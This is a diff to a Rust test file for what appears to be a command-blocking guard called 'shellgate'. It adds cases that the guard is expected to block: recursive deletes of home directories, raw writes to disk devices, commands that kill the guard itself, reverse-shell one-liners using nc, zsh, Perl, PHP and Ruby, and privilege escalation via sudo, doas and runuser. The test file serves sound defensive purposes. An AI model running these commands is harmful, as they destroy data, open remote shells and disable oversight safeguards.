@@ -104,6 +104,9 @@ fn recursive_delete_normalized() {
             "cd ~ && rm -rf .",
             "cd / && rm -rf etc",
             "rm -rf /{etc,tmp/x}",
+            "rm -rf ~root",
+            "rm -rf ~u",
+            "rm -rf ~u/",
             "rm -r{,f} /",
             "\\rm -rf /",
             "/bin/rm -rf /",
@@ -143,6 +146,7 @@ fn recursive_delete_normalized() {
     none(&[
         "rm -rf build",
         "rm -rf ~/proj/dist",
+        "rm -rf ~bob/tmp",
         "rm -rf /tmp/x",
         "rm -rf ./node_modules",
         "rm -rf ~/p/*",
@@ -227,6 +231,11 @@ fn block_devices() {
             "cryptsetup luksFormat /dev/sdb",
             "nvme format /dev/nvme0n1",
             "curl -o /dev/sda https://x/img",
+            "cp -t /dev sda",
+            "cp sda /dev/",
+            "> /dev/sda",
+            "{ cat x; } > /dev/sda",
+            "while true; do cat x; done > /dev/sda",
         ],
     );
     none(&[
@@ -250,6 +259,8 @@ fn block_devices() {
         "cp /dev/sda disk.img",
         "xxd /dev/sda | head",
         "tee out.txt",
+        "cp x /dev/null",
+        "cp -t /dev/shm x",
     ]);
 }
 
@@ -351,6 +362,10 @@ fn signals() {
             "busybox killall shellgate",
             "loginctl terminate-user u",
             "loginctl kill-session $XDG_SESSION_ID",
+            "launchctl bootout gui/501/dev.shellgate.serve",
+            "kill -9 $(ps aux | grep shellgate | awk '{print $2}')",
+            "pgrep shellgate | while read p; do kill $p; done",
+            "builtin kill -9 -1",
         ],
     );
     none(&[
@@ -409,6 +424,9 @@ fn reverse_shells() {
             "telnet h 1 | /bin/sh | telnet h 2",
             "bash -c 'bash -i >& /dev/tcp/h/1 0>&1'",
             "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
+            "sh -i < /tmp/f 2>&1 | nc h 1 > /tmp/f",
+            "mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc h 1 > /tmp/f",
+            "zsh -c 'zmodload zsh/net/tcp; ztcp h 1; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
             "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(1,inet_aton(\"h\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
             "php -r '$sock=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
             "ruby -rsocket -e 'f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
@@ -449,6 +467,9 @@ fn privilege() {
             "nice sudo id",
             "npx sudo id",
             "machinectl shell",
+            "$(which sudo) ls",
+            "`command -v doas` sh",
+            "runuser -u root id",
         ],
     );
     none(&["sudoku", "pseudo x"]);
